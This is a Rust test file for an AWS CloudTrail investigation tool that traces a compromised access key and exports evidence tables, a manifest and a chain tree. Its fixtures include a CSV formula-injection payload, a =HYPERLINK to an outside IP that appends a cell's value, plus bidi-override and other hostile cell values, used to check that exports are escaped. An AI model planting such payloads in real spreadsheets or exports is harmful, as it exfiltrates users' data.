use std::collections::HashMap;
use std::error::Error;
use std::fs;
use std::path::Path;

use chrono::{DateTime, Utc};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tempfile::TempDir;

use super::*;
use crate::cloudtrail::event::Interner;
use crate::cloudtrail::{EventKey, Record, time};
use crate::investigation::fact::{
    FileOutcome, FileReport, ItemMarked, ItemState, Judged, Page, PassBegan, PassEnded, Problem, RegionCount, Started,
};
use crate::investigation::timeline::Filter;
use crate::investigation::{Fact, Verdict, What};

const ACCOUNT: &str = "111122223333";
const SEED: &str = "AKIAIOSFODNN7EXAMPLE";
const OTHER: &str = "AKIAI44QH8DHBEXAMPLE";
const AGENT: &str = "=HYPERLINK(\"http://203.0.113.66/\"&A1,\"\u{202e}x\")\r\n\0,\"";

fn at() -> DateTime<Utc> {
    time::parse_text("2026-03-01T10:00:00Z").unwrap()
}

fn record(second: u32, key: Option<&str>, name: &str, more: &Value) -> Record {
    let mut body = json!({
        "eventID": format!("event-{second}"), "eventName": name, "eventSource": "iam.amazonaws.com",
        "eventTime": format!("2026-01-01T00:00:{second:02}Z"), "awsRegion": "us-east-1",
        "recipientAccountId": ACCOUNT, "sourceIPAddress": "203.0.113.66", "userAgent": AGENT, "readOnly": false,
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAIOSFODNN7EXAMPLE", "userName": "app",
            "arn": format!("arn:aws:iam::{ACCOUNT}:user/app"), "accountId": ACCOUNT},
    });
    if let Some(key) = key {
        body["userIdentity"]["accessKeyId"] = key.into();
    }
    for (member, value) in more.as_object().unwrap() {
        body[member] = value.clone();
    }
    Record::parse(body.to_string().as_bytes(), &mut Interner::default()).unwrap()
}

/// A second key, a user of hostile name that is deleted again, a denied call, and somebody else's call.
fn records() -> Vec<Record> {
    let name = "@x\u{202e}y";
    let user = json!({"user": {"userName": name, "userId": "AIDAEXAMPLENEWUSER",
        "arn": format!("arn:aws:iam::{ACCOUNT}:user/{name}")}});
    let key = json!({"accessKey": {"accessKeyId": OTHER, "userName": "app"}});
    let denied = json!({"errorCode": "AccessDenied", "errorMessage": "-no\tno"});
    let admin = json!({"type": "IAMUser", "principalId": "AIDAEXAMPLEADMIN", "accessKeyId": "AKIAEXAMPLEADMIN0001",
        "userName": "admin", "accountId": ACCOUNT});
    vec![
        record(9, Some(OTHER), "CreateUser", &denied),
        record(
            1,
            Some(SEED),
            "CreateAccessKey",
            &json!({"requestParameters": null, "responseElements": key}),
        ),
        record(
            2,
            Some(OTHER),
            "CreateUser",
            &json!({"requestParameters": {"userName": name}, "responseElements": user}),
        ),
        record(
            5,
            Some(OTHER),
            "DeleteObject",
            &json!({"eventSource": "s3.amazonaws.com", "resources": [{"ARN": "arn:aws:s3:::a"}, {"ARN": "+b"}]}),
        ),
        record(
            20,
            None,
            "DeleteUser",
            &json!({"requestParameters": {"userName": name}, "userIdentity": admin,
            "sourceIPAddress": "198.51.100.7"}),
        ),
    ]
}

struct Held {
    investigation: Investigation,
    bodies: HashMap<EventKey, String>,
}

impl Case for Held {
    fn investigation(&self) -> &Investigation {
        &self.investigation
    }

    fn body(&self, key: &EventKey) -> Result<Option<String>, Box<dyn Error + Send + Sync>> {
        match self.bodies.get(key) {
            Some(body) if body.is_empty() => Err("unreadable".into()),
            body => Ok(body.cloned()),
        }
    }

    fn journal(&self) -> Journal {
        Journal {
            head: "ab".repeat(32),
            facts: 5,
            integrity: "whole".to_owned(),
        }
    }
}

fn held_from(seed: &str) -> Held {
    let mut investigation = Investigation::default();
    let mut apply = |what| investigation.apply(&Fact { at: at(), what });
    apply(What::Started(Started {
        seeds: vec![seed.to_owned()],
        tool_version: "0.1.0".to_owned(),
        playbook_text: None,
        playbook: "compromised-access-key".to_owned(),
    }));
    apply(What::PassBegan(PassBegan {
        sources: vec!["logs".to_owned()],
        since: None,
        until: time::parse_text("2026-02-01T00:00:00Z"),
    }));
    apply(What::Page(Page {
        origin: "logs/a".into(),
        records: records(),
    }));
    let file = |path: &str, outcome, broken| FileReport {
        path: path.into(),
        sha256: "cd".repeat(32),
        bytes: 10,
        outcome,
        records: 6,
        problems: vec![Problem {
            place: "line 3".into(),
            reason: "cut off".into(),
        }],
        broken,
        regions: vec![RegionCount {
            account: ACCOUNT.into(),
            region: "us-east-1".into(),
            records: 6,
            first: time::parse_text("2026-01-01T00:00:01Z"),
            last: time::parse_text("2026-01-01T00:00:20Z"),
        }],
    };
    apply(What::FilesRead {
        files: vec![
            file("logs/a", FileOutcome::Read, 0),
            file("=b", FileOutcome::Partial, 2),
        ],
    });
    apply(What::PassEnded(PassEnded {
        fixed_point: true,
        cut_short: None,
    }));
    apply(What::Judged(Judged {
        subject: OTHER.into(),
        verdict: Verdict::Malicious,
        by: "ana".into(),
    }));
    apply(What::ItemMarked(ItemMarked {
        item: "S1-01".into(),
        state: ItemState::Done,
        note: "=done".into(),
        by: "ana".into(),
    }));
    investigation.settle();
    let bodies = records()
        .into_iter()
        .map(|r| (r.event.key, r.body.to_string()))
        .collect();
    Held { investigation, bodies }
}

fn held() -> Held {
    held_from(SEED)
}

fn items() -> Vec<ChecklistItem> {
    ["S1-01", "S1-02"]
        .map(|id| ChecklistItem {
            step: 1,
            id: id.to_owned(),
            title: "Find out".to_owned(),
            time_box: "30 min".to_owned(),
        })
        .to_vec()
}

/// A table as it comes out of a CSV reader: a map for each row.
fn read_csv(table: Table<'_>) -> Vec<HashMap<String, String>> {
    let mut out = Vec::new();
    table.write(Format::Csv, &mut out).unwrap();
    csv::Reader::from_reader(&out[..])
        .deserialize()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn the_events_are_the_chains_in_order_with_safe_cells() {
    let held = held();
    let table = tables::events(&held.investigation, &Filter::default());
    assert_eq!(
        table.columns().join(","),
        "EventTime,EventName,Username,SourceIPAddress,UserAgent,errorCode,errorMessage,Region,EventId,EventSource,\
         AccessKeyId,PrincipalId,PrincipalArn,IdentityType,AccountId,ReadOnly,Resources,Category,Severity,Technique,Node,\
         Actor,RawSha256"
    );
    let rows = read_csv(table);
    let column = |name: &str| rows.iter().map(|row| row[name].clone()).collect::<Vec<_>>();
    assert_eq!(column("EventId"), ["event-1", "event-2", "event-5", "event-9"]);
    assert_eq!(column("Node"), [SEED, OTHER, OTHER, OTHER]);
    assert_eq!(column("errorCode"), ["", "", "", "AccessDenied"]);
    assert_eq!(column("errorMessage"), ["", "", "", "'-no\\u{9}no"]);
    assert_eq!(rows[2]["Resources"], "arn:aws:s3:::a; +b");
    assert_eq!(rows[1]["PrincipalArn"], "arn:aws:iam::111122223333:user/app");
    assert_eq!(rows[1]["RawSha256"], hex::encode(records()[2].sha256));
    assert_eq!((&*rows[1]["ReadOnly"], &*rows[1]["Username"]), ("false", "app"));
    assert!(!rows[1]["Category"].is_empty() && rows[1]["Technique"].starts_with('T'));
    assert_eq!(
        rows[0]["UserAgent"],
        "'=HYPERLINK(\"http://203.0.113.66/\"&A1,\"\\u{202e}x\")\\u{d}\\u{a}\\u{0},\""
    );
}

#[test]
fn the_other_tables_say_what_the_investigation_knows() {
    let held = held();
    let investigation = &held.investigation;
    let chain = read_csv(tables::chain(investigation));
    let user = chain.iter().find(|row| row["Kind"] == "user").unwrap();
    assert_eq!(
        (&*user["Name"], &*user["ParentNode"], &*user["Link"]),
        ("'@x\\u{202e}y", OTHER, "created")
    );
    assert_eq!(
        (&*user["Deleted"], &*user["DeletedBy"]),
        ("2026-01-01T00:00:20Z", "AKIAEXAMPLEADMIN0001")
    );
    assert_eq!(chain[0]["ParentNode"], "");
    assert_eq!(chain[1]["Verdict"], "malicious");

    let coverage = read_csv(tables::coverage(investigation));
    assert_eq!(
        (
            &*coverage[0]["Records"],
            &*coverage[0]["Files"],
            &*coverage[0]["Status"]
        ),
        ("12", "2", "read")
    );
    assert_eq!((&*coverage[1]["Source"], &*coverage[1]["Status"]), ("'=b", "partial"));
    assert_eq!(coverage[1]["Note"], "line 3: cut off; 2 records lost");

    let items = items();
    let checklist = read_csv(tables::checklist(investigation, &items));
    assert_eq!((&*checklist[0]["State"], &*checklist[0]["Note"]), ("done", "'=done"));
    assert_eq!((&*checklist[1]["State"], &*checklist[1]["At"]), ("open", ""));

    assert_eq!(read_csv(tables::actors(investigation))[0]["Events"], "4");
    let resources = read_csv(tables::resources(investigation));
    let [sign, bucket] = &resources[..] else {
        panic!("{resources:?}")
    };
    assert_eq!(
        (&*sign["Id"], &*bucket["Id"], &*bucket["Calls"]),
        ("'+b", "arn:aws:s3:::a", "DeleteObject")
    );
    assert_eq!(read_csv(tables::files(investigation))[1]["Sha256"], "cd".repeat(32));
}

#[test]
fn the_chain_json_keeps_its_contract() {
    let held = held();
    let mut out = Vec::new();
    write_chain(&held.investigation, Format::Json, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(!text.chars().any(|c| c != '\n' && text::hides(c)), "{text}");
    let chain: Value = serde_json::from_str(&text).unwrap();
    for (member, value) in [
        ("format", json!("keytrail-chain/1")),
        ("seed", json!(SEED)),
        ("seeds", json!([SEED])),
        ("account", json!(ACCOUNT)),
        ("seed_minted_by", json!(null)),
        (
            "events",
            json!({"read": 12, "duplicates": 0, "seed": 1, "chain": 4, "failed": 1}),
        ),
    ] {
        assert_eq!(chain[member], value, "{member}");
    }
    let nodes = chain["nodes"].as_array().unwrap();
    assert_eq!(
        (&nodes[0]["link"], &nodes[0]["event"], &nodes[0]["parent"]),
        (&json!("seed"), &json!(null), &json!(null))
    );
    let user = nodes.iter().find(|node| node["kind"] == "user").unwrap();
    for (member, value) in [
        ("node", json!("event-2")),
        ("parent_node", json!(OTHER)),
        ("id", json!("arn:aws:iam::111122223333:user/@x\u{202e}y")),
        ("name", json!("@x\u{202e}y")),
        ("principal_id", json!("AIDAEXAMPLENEWUSER")),
        ("parent", json!(OTHER)),
        ("link", json!("created")),
        ("verdict", json!("unknown")),
        (
            "event",
            json!({"id": "event-2", "name": "CreateUser", "source": "iam.amazonaws.com", "region": "us-east-1",
            "time": "2026-01-01T00:00:02Z"}),
        ),
        ("events", json!(0)),
        ("first_seen", json!(null)),
        ("last_seen", json!(null)),
        (
            "deleted",
            json!({"time": "2026-01-01T00:00:20Z", "event_id": "event-20", "by": "AKIAEXAMPLEADMIN0001"}),
        ),
    ] {
        assert_eq!(user[member], value, "{member}");
    }
    assert!(user["actor"].as_str().unwrap().starts_with("203.0.113.66"));
    assert_eq!(nodes[1]["used_by"].as_array().unwrap().len(), 1);
    let attempt = &chain["attempts"][0];
    assert_eq!(
        (&attempt["event_id"], &attempt["error"]),
        (&json!("event-9"), &json!("AccessDenied"))
    );
}

#[test]
fn a_seed_that_was_minted_says_by_whom() {
    let held = held_from(OTHER);
    assert_eq!(
        chain_json(&held.investigation)["seed_minted_by"],
        json!({"id": "event-1", "name": "CreateAccessKey", "source": "iam.amazonaws.com", "region": "us-east-1",
            "time": "2026-01-01T00:00:01Z", "by": SEED})
    );
}

#[test]
fn the_tree_hangs_children_under_their_parents() {
    let mut out = Vec::new();
    write_chain(&held().investigation, Format::Text, &mut out).unwrap();
    insta::assert_snapshot!(String::from_utf8(out).unwrap(), @r"
    access key AKIAIOSFODNN7EXAMPLE, 1 call
    └─ access key AKIAI44QH8DHBEXAMPLE, minted, 2026-01-01T00:00:01Z CreateAccessKey, 3 calls, malicious
       └─ user arn:aws:iam::111122223333:user/@x\u{202e}y, created, 2026-01-01T00:00:02Z CreateUser, ended 2026-01-01T00:00:20Z

    12 records read, 0 copies; signed with the seed: 1, with keys of the chain: 4, failed: 1

    Tried and failed:
      2026-01-01T00:00:09Z  CreateUser  AccessDenied
    ");
}

fn names(folder: &Path) -> Vec<String> {
    let entries = fs::read_dir(folder).unwrap();
    let mut names: Vec<_> = entries.map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

#[test]
fn the_manifest_holds_the_hash_of_every_file() {
    let parent = TempDir::new().unwrap();
    let folder = parent.path().join("evidence");
    write_evidence(&folder, &held(), &items(), at()).unwrap();
    let manifest: Value = serde_json::from_slice(&fs::read(folder.join("manifest.json")).unwrap()).unwrap();
    let mut listed = vec!["manifest.json".to_owned()];
    for file in manifest["files"].as_array().unwrap() {
        let name = file["name"].as_str().unwrap();
        let content = fs::read(folder.join(name)).unwrap();
        assert_eq!(file["sha256"], hex::encode(Sha256::digest(&content)), "{name}");
        assert_eq!(file["bytes"], content.len());
        listed.push(name.to_owned());
    }
    listed.sort();
    assert_eq!(names(&folder), listed);
    assert_eq!(
        manifest["journal"],
        json!({"head": "ab".repeat(32), "facts": 5, "integrity": "whole"})
    );
    assert_eq!(manifest["records"], json!({"kept": 5, "missing": 0}));
    assert_eq!(manifest["coverage"]["partial"], true);
    assert_eq!(manifest["passes"][0]["until"], "2026-02-01T00:00:00Z");
    let lines = fs::read_to_string(folder.join("events.jsonl")).unwrap();
    let ids: Vec<Value> = lines
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["eventID"].clone())
        .collect();
    assert_eq!(ids, ["event-1", "event-2", "event-5", "event-9", "event-20"]);
}

#[cfg(unix)]
#[test]
fn only_the_owner_can_read_the_evidence() {
    use std::os::unix::fs::PermissionsExt;
    let parent = TempDir::new().unwrap();
    let folder = parent.path().join("evidence");
    write_evidence(&folder, &held(), &items(), at()).unwrap();
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&folder), 0o700);
    assert!(names(&folder).iter().all(|name| mode(&folder.join(name)) == 0o600));
}

#[test]
fn an_earlier_export_is_replaced_and_anything_else_is_left_alone() {
    let parent = TempDir::new().unwrap();
    let folder = parent.path().join("evidence");
    let export = |held: &Held, folder: &Path| write_evidence(folder, held, &items(), at()).map(drop);
    export(&held(), &folder).unwrap();
    fs::write(folder.join("my notes.txt"), "x").unwrap();
    export(&held(), &folder).unwrap();
    assert!(folder.join("my notes.txt").exists());
    assert!(matches!(
        export(&held_from(OTHER), &folder),
        Err(ExportError::Occupied { .. })
    ));

    let foreign = parent.path().join("foreign");
    fs::create_dir(&foreign).unwrap();
    fs::write(foreign.join("events.csv"), "x").unwrap();
    let error = export(&held(), &foreign).unwrap_err();
    assert!(
        matches!(error, ExportError::Occupied { .. }) && !error.hint().is_empty(),
        "{error}"
    );
    assert_eq!(names(&foreign), ["events.csv"]);

    let interrupted = parent.path().join("interrupted");
    fs::create_dir(&interrupted).unwrap();
    fs::write(interrupted.join(".events.csv.unfinished"), "x").unwrap();
    export(&held(), &interrupted).unwrap();
    assert!(!names(&interrupted).iter().any(|name| name.ends_with("unfinished")));

    let file = parent.path().join("file");
    fs::write(&file, "x").unwrap();
    assert!(matches!(export(&held(), &file), Err(ExportError::Io { .. })));
    assert!(matches!(
        export(&held(), &parent.path().join("no/folder")),
        Err(ExportError::Io { .. })
    ));
}

#[test]
fn an_export_that_fails_leaves_what_was_there() {
    let parent = TempDir::new().unwrap();
    let folder = parent.path().join("evidence");
    write_evidence(&folder, &held(), &items(), at()).unwrap();
    let before = fs::read(folder.join("manifest.json")).unwrap();
    let all = names(&folder);

    let mut broken = held();
    broken.bodies.values_mut().for_each(String::clear);
    let later = at() + chrono::Duration::days(1);
    assert!(matches!(
        write_evidence(&folder, &broken, &items(), later),
        Err(ExportError::Record(_))
    ));
    assert_eq!(
        (names(&folder), fs::read(folder.join("manifest.json")).unwrap()),
        (all, before)
    );

    // What is lost from a broken file is counted.
    broken.bodies.clear();
    let manifest = write_evidence(&folder, &broken, &items(), later).unwrap();
    assert_eq!(manifest.document["records"], json!({"kept": 0, "missing": 5}));
}
